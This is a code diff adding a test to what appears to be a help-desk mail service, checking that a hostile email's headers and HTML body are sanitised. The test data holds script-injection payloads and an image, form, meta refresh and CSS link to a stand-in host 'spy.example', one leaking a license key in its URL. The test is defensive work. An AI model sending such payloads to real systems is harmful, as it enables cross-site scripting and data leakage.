@@ -264,3 +264,35 @@ test('a form is shown laid out, its key masked; the raw one is a file', async ()
   const raw = await call(`/v1/desk/messages/${id}/raw`, undefined, { token: desk });
   assert.match(raw.headers.get('content-disposition') ?? '', /^attachment; filename="[0-9a-f-]+\.json"$/u);
 });
+
+test('script in every field and header of a mail comes out as text, and its key and pictures not at all', async () => {
+  const key = 'WFC-HGR4-5LCN-6LYD-3SD8';
+  const bad = '<script>alert(1)</script>';
+  const mail = [
+    `From: "${bad}" <mallory@else.example>`,
+    `To: ${bad} <licenses@sketchwell.example>`,
+    `Subject: ${bad} ${key}`,
+    `Message-ID: <x${bad.replaceAll(/[^a-z]/gu, '')}@else.example>`,
+    `X-Mailer: ${bad}`,
+    'MIME-Version: 1.0',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    `<p>Please move our license of Wireframes for Confluence. It is in use on our own Server. We agree to match the users.</p>
+     <p>License key: ${key}</p><p>Organization: ${bad.replaceAll('<', '&lt;')}</p><p>Marketplace account: mallory@else.example</p>
+     <img src="https://spy.example/${key}.gif"><form action="https://spy.example"><input></form>${bad}
+     <meta http-equiv=refresh content="0;url=https://spy.example"><p style="background:url(https://spy.example)">x</p>`,
+  ].join('\r\n');
+  const received = await call('/v1/messages', mail, { token: desk, type: 'message/rfc822', key: 'hostile-mail' });
+  assert.ok(received.ok, await received.clone().text());
+  const { reference } = (await received.json()) as { reference: string };
+  const message = DeskMessage.parse(await get(`/v1/desk/messages/${reference}`));
+  assert.ok(message.headers.some(([name, value]) => name === 'Subject' && value.includes(bad)));
+  assert.doesNotMatch(message.html ?? '', /<script|<img|<form|<meta|style=|spy\.example/u);
+  assert.ok(message.leftOut.images === 1 && message.leftOut.other >= 2);
+  assert.ok(!JSON.stringify(message).includes(key));
+  const response = await call(`/v1/desk/messages/${reference}/raw`, undefined, {
+    token: desk,
+  });
+  assert.match(response.headers.get('content-disposition') ?? '', /^attachment;/u);
+  assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
+});
